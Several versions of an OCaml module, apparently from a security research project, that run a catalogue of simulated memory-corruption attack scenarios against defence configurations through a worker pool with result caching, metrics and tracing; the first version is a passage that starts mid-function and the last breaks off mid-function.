    Queue.add key ctx.cx_order;
    entry

let memo_find t key =
  match t.memo with
  | None -> None
  | Some mc ->
    let ms = mc.mc_shards.(memo_shard_of key) in
    Mutex.lock ms.ms_mutex;
    let r =
      match Hashtbl.find_opt ms.ms_tbl key with
      | None -> None
      | Some (reply, genref) ->
        stamp ms key genref;
        compact_order ms ~cap:mc.mc_cap;
        Some reply
    in
    Mutex.unlock ms.ms_mutex;
    r

(* [true] iff the entry is new — the caller mirrors fresh entries to the
   persistence sink, and only fresh ones. *)
let memo_store t key reply =
  match t.memo with
  | None -> false
  | Some mc ->
    let ms = mc.mc_shards.(memo_shard_of key) in
    Mutex.lock ms.ms_mutex;
    let added =
      if Hashtbl.mem ms.ms_tbl key then false
      else begin
        let genref = ref 0 in
        Hashtbl.add ms.ms_tbl key (reply, genref);
        stamp ms key genref;
        evict_lru ms ~cap:mc.mc_cap;
        true
      end
    in
    Mutex.unlock ms.ms_mutex;
    added


(* All per-job accounting lands in the worker's own shard. *)
let account ctx reply ~restores ~memo_hit =
  let sh = ctx.cx_shard in
  sh.sh_jobs <- sh.sh_jobs + 1;
  if memo_hit then sh.sh_hits <- sh.sh_hits + 1
  else sh.sh_misses <- sh.sh_misses + 1;
  sh.sh_restores <- sh.sh_restores + restores;
  (* count over the rendered status's stable key prefix *)
  let k =
    match String.index_opt reply.r_status ' ' with
    | Some idx -> String.sub reply.r_status 0 idx
    | None -> reply.r_status
  in
  Mutex.lock sh.sh_mutex;
  Hashtbl.replace sh.sh_outcomes k
    (1 + Option.value ~default:0 (Hashtbl.find_opt sh.sh_outcomes k));
  Mutex.unlock sh.sh_mutex

let execute t ctx (j : job) =
  Trace.with_span ~cat:"service" "job"
    ~args:
      [
        ("scenario", Trace.Str j.j_attack.Catalog.id);
        ("config", Trace.Str j.j_config.Config.name);
      ]
  @@ fun () ->
  let p, input_hash = prepared_for t ctx j in
  let restores_before = Driver.restores p in
  (* the memo key includes the attacker-input hash computed against the
     prepared image — same scenario, same config, same input: same
     verdict *)
  let key =
    ( j.j_attack.Catalog.id,
      j.j_config.Config.name,
      j.j_chaos_seed,
      input_hash,
      j.j_sanitize,
      Driver.engine_name j.j_engine )
  in
  match memo_find t key with
  | Some cached ->
    let reply = { cached with r_cached = true } in
    Trace.add_args [ ("memo", Trace.Bool true) ];
    account ctx reply ~restores:(Driver.restores p - restores_before)
      ~memo_hit:true;
    reply
  | None ->
    let t0 = Clock.now_ns () in
    let reply =
      match j.j_chaos_seed with
      | None ->
        reply_of_result (Driver.run_prepared ?max_steps:j.j_max_steps p)
      | Some seed ->
        let plan = Plan.generate ~seed () in
        let s =
          Driver.supervise ~config:j.j_config ?max_steps:j.j_max_steps
            ~engine:j.j_engine
            ~reload:(fun () -> Driver.reset p)
            ~plan j.j_attack
        in
        reply_of_supervised ~chaos_seed:seed s
    in
    lh_observe ctx.cx_shard.sh_execute
      (Clock.elapsed_us ~a:t0 ~b:(Clock.now_ns ()));
    Trace.add_args
      [ ("memo", Trace.Bool false); ("status", Trace.Str reply.r_status) ];
    if memo_store t key reply then begin
      match Atomic.get t.memo_sink with
      | None -> ()
      | Some sink ->
        let id, config, chaos_seed, input_hash, sanitize, engine = key in
        sink
          {
            me_attack = id;
            me_config = config;
            me_chaos_seed = chaos_seed;
            me_input_hash = input_hash;
            me_sanitize = sanitize;
            me_engine = engine;
            me_reply = reply;
          }
    end;
    account ctx reply ~restores:(Driver.restores p - restores_before)
      ~memo_hit:false;
    reply

(* --- client API --- *)

(* Queue-wait is measured from submission to the moment a worker picks
   the job up — the closure runs on the worker, so the delta between the
   two samples below is exactly the time spent queued. The clock is
   monotonic (one sample per transition), so a wall-clock step can never
   produce a negative or garbage wait. *)
(* A traced job retroactively records its queue wait as a span under
   the submitter's parent, then runs [execute] with the trace context
   installed so the job/run/verdict spans link into the same tree. *)
let queue_wait_span (j : job) ~enqueued ~wait_us =
  match j.j_trace with
  | Some (tid, parent) ->
    Trace.emit ~cat:"service" ~name:"queue-wait"
      ~ts_us:(Trace.us_of_ns enqueued) ~dur_us:wait_us
      ~trace:(tid, Trace.next_span_id (), parent) ()
  | None -> ()

let traced_execute t ctx (j : job) =
  match j.j_trace with
  | None -> execute t ctx j
  | Some (tid, parent) ->
    Trace.with_ctx (Some { Trace.trace_id = tid; parent_span = parent })
      (fun () -> execute t ctx j)

let submit ?notify t j =
  let enqueued = Clock.now_ns () in
  Pool.submit ?notify t.pool (fun ctx ->
      let wait_us = Clock.elapsed_us ~a:enqueued ~b:(Clock.now_ns ()) in
      lh_observe ctx.cx_shard.sh_queue_wait wait_us;
      queue_wait_span j ~enqueued ~wait_us;
      traced_execute t ctx j)

(* Non-blocking admission for the network front end: [None] means the
   queue is full and the caller should shed the request. *)
let try_submit ?notify t j =
  let enqueued = Clock.now_ns () in
  Pool.try_submit ?notify t.pool (fun ctx ->
      let wait_us = Clock.elapsed_us ~a:enqueued ~b:(Clock.now_ns ()) in
      lh_observe ctx.cx_shard.sh_queue_wait wait_us;
      queue_wait_span j ~enqueued ~wait_us;
      traced_execute t ctx j)

let exec t j = Pool.await (submit t j)

(* -- memo persistence hooks ---------------------------------------- *)

let set_memo_sink t sink = Atomic.set t.memo_sink sink

(* Recovery path: replayed log entries become warm cache state. Existing
   keys win — the log is append-only, so the first record for a key is
   the authoritative one (matching [memo_store]'s first-writer-wins). The
   sink is deliberately not invoked: preloaded entries are already on
   disk. *)
let preload_memo t entries =
  let loaded = ref 0 in
  List.iter
    (fun e ->
      let key =
        (e.me_attack, e.me_config, e.me_chaos_seed, e.me_input_hash,
         e.me_sanitize, e.me_engine)
      in
      if memo_store t key { e.me_reply with r_cached = false } then
        incr loaded)
    entries;
  !loaded

(* Submission order is reply order: futures are awaited in sequence, so a
   batch is deterministic however the pool interleaves the work. *)
let run_batch t js = List.map Pool.await (List.map (submit t) js)

(* ------------------------------------------------------------------ *)
(* Canonical workloads                                                 *)

(* The full §5 experiment matrix as a job list. *)
let matrix_jobs ?(configs = Config.all) ?max_steps () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.map (fun config -> job ?max_steps ~config a) configs)
    All.attacks

(* A seeded synthetic request stream over the catalogue: every
   [chaos_every]-th request runs supervised under a generated fault plan,
   the rest are plain scenario runs. Deterministic in [seed]. *)
let synth_stream ?(chaos_every = 7) ~seed ~n () =
  let rng = Random.State.make [| 0x5e41ce; seed |] in
  let attacks = Array.of_list All.attacks in
  let configs = Array.of_list Config.all in
  List.init n (fun i ->
      let a = attacks.(Random.State.int rng (Array.length attacks)) in
      let config = configs.(Random.State.int rng (Array.length configs)) in
      let chaos_seed =
        if chaos_every > 0 && i mod chaos_every = chaos_every - 1 then
          Some (1 + Random.State.int rng 1000)
        else None
      in
      job ?chaos_seed ~max_steps:2_000_000 ~config a)

let now () = Unix.gettimeofday ()

(* Time a thunk on the monotonic clock: (result, seconds). *)
let timed f =
  let t0 = Clock.now_ns () in
  let v = f () in
  (v, Clock.elapsed_s ~a:t0 ~b:(Clock.now_ns ()))
