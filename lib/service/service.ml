(** The scenario-execution service: the catalogue as a throughput workload.

    Sequentially, every {!Driver.run} pays the full image build — layout,
    vtable emission, global initialisation — before a single interpreted
    step. This layer interposes prepared machine state instead (the same
    move as VRT's run-time table amortising per-call bookkeeping, or
    S3Library's substitution of a safer execution substrate):

    - a {!Pool} of domain workers drains a bounded job queue;
    - each worker keeps a cache of {!Driver.prepared} scenarios — a loaded
      machine plus its post-load {!Pna_machine.Machine.snapshot} — and
      rewinds instead of reloading between requests;
    - a memoizing result cache keyed by [(scenario, config, chaos seed,
      input hash)] serves repeated requests without executing at all.

    Replies are derived purely from per-job state, so a batch at any
    worker count is verdict-identical to the sequential driver. *)

module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Outcome = Pna_minicpp.Outcome
module Plan = Pna_chaos.Plan
module Metrics = Pna_telemetry.Metrics
module Trace = Pna_telemetry.Trace
module Jsonx = Pna_telemetry.Jsonx

(* ------------------------------------------------------------------ *)
(* Jobs and replies                                                    *)

type job = {
  j_attack : Catalog.t;
  j_config : Config.t;
  j_chaos_seed : int option;
      (** [Some s]: run supervised under [Plan.generate ~seed:s] *)
  j_max_steps : int option;  (** per-job deadline in interpreter steps *)
  j_sanitize : bool;
      (** attach the PNASan oracle; plain runs only — a chaos job ignores
          it (supervision rebuilds machines mid-run) *)
}

let job ?chaos_seed ?max_steps ?(sanitize = false) ?(config = Config.none)
    attack =
  { j_attack = attack; j_config = config; j_chaos_seed = chaos_seed;
    j_max_steps = max_steps; j_sanitize = sanitize }

type reply = {
  r_id : string;
  r_config : string;
  r_chaos_seed : int option;
  r_status : string;  (** rendered {!Outcome.pp_status} *)
  r_success : bool;
  r_detail : string;
  r_attempts : int;  (** supervised retries; 1 for plain runs *)
  r_cached : bool;  (** served from the memo cache without executing *)
  r_violations : int;
      (** sanitizer violation records; 0 unless the job sanitized *)
}

let reply_of_result ?chaos_seed (r : Driver.result) =
  {
    r_id = r.Driver.attack.Catalog.id;
    r_config = r.Driver.config.Config.name;
    r_chaos_seed = chaos_seed;
    r_status = Fmt.str "%a" Outcome.pp_status r.Driver.outcome.Outcome.status;
    r_success = r.Driver.verdict.Catalog.success;
    r_detail = r.Driver.verdict.Catalog.detail;
    r_attempts = 1;
    r_cached = false;
    r_violations = List.length r.Driver.violations;
  }

let reply_of_supervised ?chaos_seed (s : Driver.supervised) =
  {
    r_id = s.Driver.sv_attack.Catalog.id;
    r_config = s.Driver.sv_config.Config.name;
    r_chaos_seed = chaos_seed;
    r_status = Fmt.str "%a" Outcome.pp_status s.Driver.sv_outcome.Outcome.status;
    r_success = s.Driver.sv_verdict.Catalog.success;
    r_detail = s.Driver.sv_verdict.Catalog.detail;
    r_attempts = s.Driver.sv_attempts;
    r_cached = false;
    r_violations = 0;
  }

let pp_reply ppf r =
  Fmt.pf ppf "%-16s %-14s %s%s: %s%s%s" r.r_id r.r_config
    (match r.r_chaos_seed with None -> "" | Some s -> Fmt.str "seed=%d " s)
    (if r.r_success then "ATTACK SUCCEEDED" else "attack failed")
    r.r_status
    (if r.r_violations > 0 then Fmt.str " [%d san]" r.r_violations else "")
    (if r.r_cached then " [memo]" else "")

(* ------------------------------------------------------------------ *)
(* Statistics                                                          *)

(* The aggregate view derived from the service's metrics registry — the
   registry is the single source of truth; this record is the stable
   reporting shape the CLI and tests consume. *)
type stats = {
  st_jobs : int;  (** replies produced *)
  st_memo_hits : int;
  st_memo_misses : int;
  st_snapshot_restores : int;  (** machine rewinds in place of loads *)
  st_fresh_loads : int;  (** machines actually built from programs *)
  st_outcomes : (string * int) list;  (** status key -> count, sorted *)
  st_queue_wait_us : int * float;  (** (observations, total µs) queued *)
  st_execute_us : int * float;  (** (observations, total µs) executing *)
}

let status_key st =
  match (st : Outcome.status) with
  | Outcome.Exited _ -> "exited"
  | Outcome.Recovered _ -> "recovered"
  | Outcome.Crashed _ -> "crashed"
  | Outcome.Stack_smashing_detected -> "canary"
  | Outcome.Defense_blocked _ -> "blocked"
  | Outcome.Timeout _ -> "timeout"
  | Outcome.Out_of_memory -> "oom"
  | Outcome.Internal_error _ -> "internal-error"
  | Outcome.Arc_injection _ -> "arc-inj"
  | Outcome.Code_injection _ -> "code-inj"

(* compact single-line form for tabular reports *)
let pp_stats_line ppf s =
  Fmt.pf ppf "memo %d/%d  images %dR/%dL" s.st_memo_hits s.st_memo_misses
    s.st_snapshot_restores s.st_fresh_loads

let mean_ms (n, total_us) =
  if n = 0 then 0. else total_us /. float_of_int n /. 1000.

let pp_stats ppf s =
  Fmt.pf ppf
    "@[<v>jobs: %d@,memo: %d hit / %d miss@,images: %d restored / %d \
     loaded@,queue wait: %.3f ms mean / execute: %.3f ms mean@,outcomes: %a@]"
    s.st_jobs s.st_memo_hits s.st_memo_misses s.st_snapshot_restores
    s.st_fresh_loads
    (mean_ms s.st_queue_wait_us)
    (mean_ms s.st_execute_us)
    Fmt.(list ~sep:(any " ") (pair ~sep:(any ":") string int))
    s.st_outcomes

let stats_json s : Jsonx.t =
  let hist name (n, total_us) =
    ( name,
      Jsonx.Obj
        [
          ("count", Jsonx.Int n);
          ("total_us", Jsonx.Float total_us);
          ("mean_ms", Jsonx.Float (mean_ms (n, total_us)));
        ] )
  in
  Jsonx.Obj
    [
      ("jobs", Jsonx.Int s.st_jobs);
      ("memo_hits", Jsonx.Int s.st_memo_hits);
      ("memo_misses", Jsonx.Int s.st_memo_misses);
      ("snapshot_restores", Jsonx.Int s.st_snapshot_restores);
      ("fresh_loads", Jsonx.Int s.st_fresh_loads);
      ( "outcomes",
        Jsonx.Obj (List.map (fun (k, n) -> (k, Jsonx.Int n)) s.st_outcomes) );
      hist "queue_wait" s.st_queue_wait_us;
      hist "execute" s.st_execute_us;
    ]

(* ------------------------------------------------------------------ *)
(* The service                                                         *)

(* Per-worker context: the prepared-scenario cache. Machines are a couple
   of megabytes each (contents + taint, twice: live + snapshot), so the
   cache is bounded with FIFO eviction; hot scenarios stay prepared, a
   cold sweep degrades to load-per-job. *)
type ctx = {
  cx_prepared : (string * string * bool, Driver.prepared * int) Hashtbl.t;
      (** prepared scenario + the hash of its attacker input; the input
          against a freshly rewound image is a pure function of the
          prepared scenario, so it is hashed once at load time and memo
          hits cost two table lookups with no machine work *)
  cx_order : (string * string * bool) Queue.t;
  cx_cap : int;
}

type memo_key = string * string * int option * int * bool

(* Registry-backed instrumentation, one registry per service instance so
   tests (and parallel services) see isolated counters. The interned
   instruments are held directly; outcome counters are keyed by status
   and interned on first use. *)
type instruments = {
  i_registry : Metrics.registry;
  i_jobs : Metrics.counter;
  i_memo_hit : Metrics.counter;
  i_memo_miss : Metrics.counter;
  i_restores : Metrics.counter;
  i_loads : Metrics.counter;
  i_queue_wait : Metrics.histogram;  (** µs from submit to dequeue *)
  i_execute : Metrics.histogram;  (** µs executing (memo hits excluded) *)
}

let mk_instruments () =
  let reg = Metrics.create () in
  {
    i_registry = reg;
    i_jobs = Metrics.counter reg "pna_service_jobs_total";
    i_memo_hit =
      Metrics.counter reg "pna_service_memo_total" ~labels:[ ("result", "hit") ];
    i_memo_miss =
      Metrics.counter reg "pna_service_memo_total"
        ~labels:[ ("result", "miss") ];
    i_restores =
      Metrics.counter reg "pna_service_images_total"
        ~labels:[ ("source", "snapshot_restore") ];
    i_loads =
      Metrics.counter reg "pna_service_images_total"
        ~labels:[ ("source", "fresh_load") ];
    i_queue_wait = Metrics.histogram reg "pna_service_queue_wait_us";
    i_execute = Metrics.histogram reg "pna_service_execute_us";
  }

type t = {
  pool : ctx Pool.t;
  memo : (memo_key, reply) Hashtbl.t option;  (** [None]: memoization off *)
  memo_mutex : Mutex.t;
  ins : instruments;
}

let create ?(jobs = Domain.recommended_domain_count ()) ?queue_cap
    ?(memo = true) ?(prepared_cap = 16) () =
  if prepared_cap < 1 then
    invalid_arg "Service.create: prepared_cap must be positive";
  let mk_ctx () =
    {
      cx_prepared = Hashtbl.create prepared_cap;
      cx_order = Queue.create ();
      cx_cap = prepared_cap;
    }
  in
  {
    pool = Pool.create ?queue_cap ~jobs ~mk_ctx ();
    memo = (if memo then Some (Hashtbl.create 256) else None);
    memo_mutex = Mutex.create ();
    ins = mk_instruments ();
  }

let jobs t = Pool.jobs t.pool

let registry t = t.ins.i_registry

let pp_prometheus ppf t = Metrics.pp_prometheus ppf (registry t)

let stats t =
  let i = t.ins in
  let outcomes =
    List.filter_map
      (function
        | Metrics.Counter_info { name = "pna_service_outcomes_total"; labels; count }
          -> (
          match List.assoc_opt "status" labels with
          | Some k -> Some (k, count)
          | None -> None)
        | _ -> None)
      (Metrics.snapshot i.i_registry)
    |> List.sort compare
  in
  {
    st_jobs = Metrics.count i.i_jobs;
    st_memo_hits = Metrics.count i.i_memo_hit;
    st_memo_misses = Metrics.count i.i_memo_miss;
    st_snapshot_restores = Metrics.count i.i_restores;
    st_fresh_loads = Metrics.count i.i_loads;
    st_outcomes = outcomes;
    st_queue_wait_us = (Metrics.hist_count i.i_queue_wait, Metrics.hist_sum i.i_queue_wait);
    st_execute_us = (Metrics.hist_count i.i_execute, Metrics.hist_sum i.i_execute);
  }

let shutdown t = Pool.shutdown t.pool

(* --- worker-side execution --- *)

let prepared_for t ctx (j : job) =
  let key = (j.j_attack.Catalog.id, j.j_config.Config.name, j.j_sanitize) in
  match Hashtbl.find_opt ctx.cx_prepared key with
  | Some entry -> entry
  | None ->
    let p = Driver.prepare ~config:j.j_config ~sanitize:j.j_sanitize j.j_attack in
    let entry = (p, Hashtbl.hash (Driver.prepared_input p)) in
    Metrics.incr t.ins.i_loads;
    if Hashtbl.length ctx.cx_prepared >= ctx.cx_cap then begin
      match Queue.take_opt ctx.cx_order with
      | Some oldest -> Hashtbl.remove ctx.cx_prepared oldest
      | None -> ()
    end;
    Hashtbl.replace ctx.cx_prepared key entry;
    Queue.add key ctx.cx_order;
    entry

let memo_find t key =
  match t.memo with
  | None -> None
  | Some tbl ->
    Mutex.lock t.memo_mutex;
    let r = Hashtbl.find_opt tbl key in
    Mutex.unlock t.memo_mutex;
    r

let memo_store t key reply =
  match t.memo with
  | None -> ()
  | Some tbl ->
    Mutex.lock t.memo_mutex;
    if not (Hashtbl.mem tbl key) then Hashtbl.add tbl key reply;
    Mutex.unlock t.memo_mutex

let account t reply ~restores ~memo_hit =
  let i = t.ins in
  Metrics.incr i.i_jobs;
  Metrics.incr (if memo_hit then i.i_memo_hit else i.i_memo_miss);
  Metrics.incr ~by:restores i.i_restores;
  (* count over the rendered status's stable key prefix *)
  let k =
    match String.index_opt reply.r_status ' ' with
    | Some idx -> String.sub reply.r_status 0 idx
    | None -> reply.r_status
  in
  Metrics.incr
    (Metrics.counter i.i_registry "pna_service_outcomes_total"
       ~labels:[ ("status", k) ])

let execute t ctx (j : job) =
  Trace.with_span ~cat:"service" "job"
    ~args:
      [
        ("scenario", Trace.Str j.j_attack.Catalog.id);
        ("config", Trace.Str j.j_config.Config.name);
      ]
  @@ fun () ->
  let p, input_hash = prepared_for t ctx j in
  let restores_before = Driver.restores p in
  (* the memo key includes the attacker-input hash computed against the
     prepared image — same scenario, same config, same input: same
     verdict *)
  let key =
    ( j.j_attack.Catalog.id,
      j.j_config.Config.name,
      j.j_chaos_seed,
      input_hash,
      j.j_sanitize )
  in
  match memo_find t key with
  | Some cached ->
    let reply = { cached with r_cached = true } in
    Trace.add_args [ ("memo", Trace.Bool true) ];
    account t reply ~restores:(Driver.restores p - restores_before)
      ~memo_hit:true;
    reply
  | None ->
    let t0 = Unix.gettimeofday () in
    let reply =
      match j.j_chaos_seed with
      | None ->
        reply_of_result (Driver.run_prepared ?max_steps:j.j_max_steps p)
      | Some seed ->
        let plan = Plan.generate ~seed () in
        let s =
          Driver.supervise ~config:j.j_config ?max_steps:j.j_max_steps
            ~reload:(fun () -> Driver.reset p)
            ~plan j.j_attack
        in
        reply_of_supervised ~chaos_seed:seed s
    in
    Metrics.observe t.ins.i_execute ((Unix.gettimeofday () -. t0) *. 1e6);
    Trace.add_args
      [ ("memo", Trace.Bool false); ("status", Trace.Str reply.r_status) ];
    memo_store t key reply;
    account t reply ~restores:(Driver.restores p - restores_before)
      ~memo_hit:false;
    reply

(* --- client API --- *)

(* Queue-wait is measured from submission to the moment a worker picks
   the job up — the closure runs on the worker, so the delta between the
   two clocks below is exactly the time spent queued. *)
let submit t j =
  let enqueued = Unix.gettimeofday () in
  Pool.submit t.pool (fun ctx ->
      Metrics.observe t.ins.i_queue_wait
        ((Unix.gettimeofday () -. enqueued) *. 1e6);
      execute t ctx j)

let exec t j = Pool.await (submit t j)

(* Submission order is reply order: futures are awaited in sequence, so a
   batch is deterministic however the pool interleaves the work. *)
let run_batch t js = List.map Pool.await (List.map (submit t) js)

(* ------------------------------------------------------------------ *)
(* Canonical workloads                                                 *)

(* The full §5 experiment matrix as a job list. *)
let matrix_jobs ?(configs = Config.all) ?max_steps () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.map (fun config -> job ?max_steps ~config a) configs)
    All.attacks

(* A seeded synthetic request stream over the catalogue: every
   [chaos_every]-th request runs supervised under a generated fault plan,
   the rest are plain scenario runs. Deterministic in [seed]. *)
let synth_stream ?(chaos_every = 7) ~seed ~n () =
  let rng = Random.State.make [| 0x5e41ce; seed |] in
  let attacks = Array.of_list All.attacks in
  let configs = Array.of_list Config.all in
  List.init n (fun i ->
      let a = attacks.(Random.State.int rng (Array.length attacks)) in
      let config = configs.(Random.State.int rng (Array.length configs)) in
      let chaos_seed =
        if chaos_every > 0 && i mod chaos_every = chaos_every - 1 then
          Some (1 + Random.State.int rng 1000)
        else None
      in
      job ?chaos_seed ~max_steps:2_000_000 ~config a)

let now () = Unix.gettimeofday ()

(* Wall-clock a thunk: (result, seconds). *)
let timed f =
  let t0 = now () in
  let v = f () in
  (v, now () -. t0)
