(** The scenario-execution service: the catalogue as a throughput workload.

    Sequentially, every {!Driver.run} pays the full image build — layout,
    vtable emission, global initialisation — before a single interpreted
    step. This layer interposes prepared machine state instead (the same
    move as VRT's run-time table amortising per-call bookkeeping, or
    S3Library's substitution of a safer execution substrate):

    - a {!Pool} of domain workers drains a bounded job queue;
    - each worker keeps a cache of {!Driver.prepared} scenarios — a loaded
      machine plus its post-load {!Pna_machine.Machine.snapshot} — and
      rewinds instead of reloading between requests;
    - a memoizing result cache keyed by [(scenario, config, chaos seed,
      input hash)] serves repeated requests without executing at all.

    Replies are derived purely from per-job state, so a batch at any
    worker count is verdict-identical to the sequential driver. *)

module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Outcome = Pna_minicpp.Outcome
module Plan = Pna_chaos.Plan

(* ------------------------------------------------------------------ *)
(* Jobs and replies                                                    *)

type job = {
  j_attack : Catalog.t;
  j_config : Config.t;
  j_chaos_seed : int option;
      (** [Some s]: run supervised under [Plan.generate ~seed:s] *)
  j_max_steps : int option;  (** per-job deadline in interpreter steps *)
}

let job ?chaos_seed ?max_steps ?(config = Config.none) attack =
  { j_attack = attack; j_config = config; j_chaos_seed = chaos_seed;
    j_max_steps = max_steps }

type reply = {
  r_id : string;
  r_config : string;
  r_chaos_seed : int option;
  r_status : string;  (** rendered {!Outcome.pp_status} *)
  r_success : bool;
  r_detail : string;
  r_attempts : int;  (** supervised retries; 1 for plain runs *)
  r_cached : bool;  (** served from the memo cache without executing *)
}

let reply_of_result ?chaos_seed (r : Driver.result) =
  {
    r_id = r.Driver.attack.Catalog.id;
    r_config = r.Driver.config.Config.name;
    r_chaos_seed = chaos_seed;
    r_status = Fmt.str "%a" Outcome.pp_status r.Driver.outcome.Outcome.status;
    r_success = r.Driver.verdict.Catalog.success;
    r_detail = r.Driver.verdict.Catalog.detail;
    r_attempts = 1;
    r_cached = false;
  }

let reply_of_supervised ?chaos_seed (s : Driver.supervised) =
  {
    r_id = s.Driver.sv_attack.Catalog.id;
    r_config = s.Driver.sv_config.Config.name;
    r_chaos_seed = chaos_seed;
    r_status = Fmt.str "%a" Outcome.pp_status s.Driver.sv_outcome.Outcome.status;
    r_success = s.Driver.sv_verdict.Catalog.success;
    r_detail = s.Driver.sv_verdict.Catalog.detail;
    r_attempts = s.Driver.sv_attempts;
    r_cached = false;
  }

let pp_reply ppf r =
  Fmt.pf ppf "%-16s %-14s %s%s: %s%s" r.r_id r.r_config
    (match r.r_chaos_seed with None -> "" | Some s -> Fmt.str "seed=%d " s)
    (if r.r_success then "ATTACK SUCCEEDED" else "attack failed")
    r.r_status
    (if r.r_cached then " [memo]" else "")

(* ------------------------------------------------------------------ *)
(* Statistics                                                          *)

type stats = {
  st_jobs : int;  (** replies produced *)
  st_memo_hits : int;
  st_memo_misses : int;
  st_snapshot_restores : int;  (** machine rewinds in place of loads *)
  st_fresh_loads : int;  (** machines actually built from programs *)
  st_outcomes : (string * int) list;  (** status key -> count, sorted *)
}

let status_key st =
  match (st : Outcome.status) with
  | Outcome.Exited _ -> "exited"
  | Outcome.Recovered _ -> "recovered"
  | Outcome.Crashed _ -> "crashed"
  | Outcome.Stack_smashing_detected -> "canary"
  | Outcome.Defense_blocked _ -> "blocked"
  | Outcome.Timeout _ -> "timeout"
  | Outcome.Out_of_memory -> "oom"
  | Outcome.Arc_injection _ -> "arc-inj"
  | Outcome.Code_injection _ -> "code-inj"

(* compact single-line form for tabular reports *)
let pp_stats_line ppf s =
  Fmt.pf ppf "memo %d/%d  images %dR/%dL" s.st_memo_hits s.st_memo_misses
    s.st_snapshot_restores s.st_fresh_loads

let pp_stats ppf s =
  Fmt.pf ppf
    "@[<v>jobs: %d@,memo: %d hit / %d miss@,images: %d restored / %d loaded@,outcomes: %a@]"
    s.st_jobs s.st_memo_hits s.st_memo_misses s.st_snapshot_restores
    s.st_fresh_loads
    Fmt.(list ~sep:(any " ") (pair ~sep:(any ":") string int))
    s.st_outcomes

(* ------------------------------------------------------------------ *)
(* The service                                                         *)

(* Per-worker context: the prepared-scenario cache. Machines are a couple
   of megabytes each (contents + taint, twice: live + snapshot), so the
   cache is bounded with FIFO eviction; hot scenarios stay prepared, a
   cold sweep degrades to load-per-job. *)
type ctx = {
  cx_prepared : (string * string, Driver.prepared * int) Hashtbl.t;
      (** prepared scenario + the hash of its attacker input; the input
          against a freshly rewound image is a pure function of the
          prepared scenario, so it is hashed once at load time and memo
          hits cost two table lookups with no machine work *)
  cx_order : (string * string) Queue.t;
  cx_cap : int;
}

type counters = {
  mutable c_jobs : int;
  mutable c_memo_hits : int;
  mutable c_memo_misses : int;
  mutable c_restores : int;
  mutable c_loads : int;
  c_outcomes : (string, int) Hashtbl.t;
}

type memo_key = string * string * int option * int

type t = {
  pool : ctx Pool.t;
  memo : (memo_key, reply) Hashtbl.t option;  (** [None]: memoization off *)
  memo_mutex : Mutex.t;
  counters : counters;
  counters_mutex : Mutex.t;
}

let create ?(jobs = Domain.recommended_domain_count ()) ?queue_cap
    ?(memo = true) ?(prepared_cap = 16) () =
  if prepared_cap < 1 then
    invalid_arg "Service.create: prepared_cap must be positive";
  let mk_ctx () =
    {
      cx_prepared = Hashtbl.create prepared_cap;
      cx_order = Queue.create ();
      cx_cap = prepared_cap;
    }
  in
  {
    pool = Pool.create ?queue_cap ~jobs ~mk_ctx ();
    memo = (if memo then Some (Hashtbl.create 256) else None);
    memo_mutex = Mutex.create ();
    counters =
      {
        c_jobs = 0;
        c_memo_hits = 0;
        c_memo_misses = 0;
        c_restores = 0;
        c_loads = 0;
        c_outcomes = Hashtbl.create 16;
      };
    counters_mutex = Mutex.create ();
  }

let jobs t = Pool.jobs t.pool

let stats t =
  Mutex.lock t.counters_mutex;
  let c = t.counters in
  let outcomes =
    Hashtbl.fold (fun k v acc -> (k, v) :: acc) c.c_outcomes []
    |> List.sort compare
  in
  let s =
    {
      st_jobs = c.c_jobs;
      st_memo_hits = c.c_memo_hits;
      st_memo_misses = c.c_memo_misses;
      st_snapshot_restores = c.c_restores;
      st_fresh_loads = c.c_loads;
      st_outcomes = outcomes;
    }
  in
  Mutex.unlock t.counters_mutex;
  s

let shutdown t = Pool.shutdown t.pool

(* --- worker-side execution --- *)

let prepared_for t ctx (j : job) =
  let key = (j.j_attack.Catalog.id, j.j_config.Config.name) in
  match Hashtbl.find_opt ctx.cx_prepared key with
  | Some entry -> entry
  | None ->
    let p = Driver.prepare ~config:j.j_config j.j_attack in
    let entry = (p, Hashtbl.hash (Driver.prepared_input p)) in
    Mutex.lock t.counters_mutex;
    t.counters.c_loads <- t.counters.c_loads + 1;
    Mutex.unlock t.counters_mutex;
    if Hashtbl.length ctx.cx_prepared >= ctx.cx_cap then begin
      match Queue.take_opt ctx.cx_order with
      | Some oldest -> Hashtbl.remove ctx.cx_prepared oldest
      | None -> ()
    end;
    Hashtbl.replace ctx.cx_prepared key entry;
    Queue.add key ctx.cx_order;
    entry

let memo_find t key =
  match t.memo with
  | None -> None
  | Some tbl ->
    Mutex.lock t.memo_mutex;
    let r = Hashtbl.find_opt tbl key in
    Mutex.unlock t.memo_mutex;
    r

let memo_store t key reply =
  match t.memo with
  | None -> ()
  | Some tbl ->
    Mutex.lock t.memo_mutex;
    if not (Hashtbl.mem tbl key) then Hashtbl.add tbl key reply;
    Mutex.unlock t.memo_mutex

let account t reply ~restores ~memo_hit =
  Mutex.lock t.counters_mutex;
  let c = t.counters in
  c.c_jobs <- c.c_jobs + 1;
  if memo_hit then c.c_memo_hits <- c.c_memo_hits + 1
  else c.c_memo_misses <- c.c_memo_misses + 1;
  c.c_restores <- c.c_restores + restores;
  (* histogram over the rendered status's stable key prefix *)
  let k =
    match String.index_opt reply.r_status ' ' with
    | Some i -> String.sub reply.r_status 0 i
    | None -> reply.r_status
  in
  Hashtbl.replace c.c_outcomes k
    (1 + Option.value (Hashtbl.find_opt c.c_outcomes k) ~default:0);
  Mutex.unlock t.counters_mutex

let execute t ctx (j : job) =
  let p, input_hash = prepared_for t ctx j in
  let restores_before = Driver.restores p in
  (* the memo key includes the attacker-input hash computed against the
     prepared image — same scenario, same config, same input: same
     verdict *)
  let key =
    (j.j_attack.Catalog.id, j.j_config.Config.name, j.j_chaos_seed, input_hash)
  in
  match memo_find t key with
  | Some cached ->
    let reply = { cached with r_cached = true } in
    account t reply ~restores:(Driver.restores p - restores_before)
      ~memo_hit:true;
    reply
  | None ->
    let reply =
      match j.j_chaos_seed with
      | None ->
        reply_of_result (Driver.run_prepared ?max_steps:j.j_max_steps p)
      | Some seed ->
        let plan = Plan.generate ~seed () in
        let s =
          Driver.supervise ~config:j.j_config ?max_steps:j.j_max_steps
            ~reload:(fun () -> Driver.reset p)
            ~plan j.j_attack
